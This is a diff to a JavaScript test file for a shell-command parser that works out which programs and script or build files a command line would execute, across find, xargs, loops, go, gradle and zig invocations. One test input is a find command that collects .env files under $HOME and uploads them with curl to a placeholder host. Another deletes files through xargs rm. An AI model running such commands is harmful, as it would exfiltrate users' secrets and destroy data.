@@ -59,10 +59,39 @@ describe('readCommands', () => {
     assert.deepEqual(programs('find "$HOME" -name .env -exec curl -F \'f=@{}\' https://a.invalid \\;'), ['curl', 'find']);
     assert.deepEqual(runsFiles(readCommands('cmake -DQUIET=ON -P cmake/probe.cmake; cmake-js compile; node run.js tools/a.py --quiet')), [
       'cmake/probe.cmake',
-      'CMakeLists.txt',
+      '{CMakeLists.txt,}',
+      'compile/{CMakeLists.txt,}',
       'run.js',
       'tools/a.py',
     ]);
+  });
+
+  it('finds what is run for each of several files', () => {
+    assert.deepEqual(files('run-parts steps'), ['steps/*']);
+    assert.deepEqual(files('find . -name "*.dat" -exec sh {} +'), ['*/*.dat']);
+    assert.deepEqual(files('find steps -name "*.sh" | xargs -n1 sh'), ['steps/*/*.sh']);
+    assert.deepEqual(files('ls steps | xargs -I{} bash {}'), ['steps/*']);
+    assert.deepEqual(files('cat list.txt | xargs -I{} sh -c "{}"'), ['list.txt']);
+    assert.deepEqual(files('for f in "steps"/*; do . "$f"; done; for g in a b; do node $g.js; done'), ['steps/*', 'a.js', 'b.js']);
+    assert.deepEqual(files('find . -name "*.sh" -exec chmod +x {} +; ls lib | xargs rm; for f in a b; do echo $f; done'), []);
+  });
+
+  it('finds what programs are built and set up by', () => {
+    assert.deepEqual(files('go run ./tools -x; go run a.go b.go'), ['tools/*.go', 'a.go', 'b.go']);
+    assert.deepEqual(files('awk -f tools/a.awk b.txt; Rscript a.R; julia --project=. deps/build.jl; java -jar a.jar'), [
+      'tools/a.awk',
+      'a.R',
+      'deps/build.jl',
+      'a.jar',
+    ]);
+    assert.deepEqual(files('gradle -p native assemble; zig build -Doptimize=ReleaseFast'), [
+      'native/{build.gradle,build.gradle.kts,settings.gradle,settings.gradle.kts,}',
+      '{build.zig,}',
+    ]);
+    assert.deepEqual(
+      files('go build; go run example.invalid/x@latest; swift build; dotnet test; lua -e "x.y()"; java Main; pip install a.b'),
+      [],
+    );
   });
 
   it('takes wrappers off', () => {
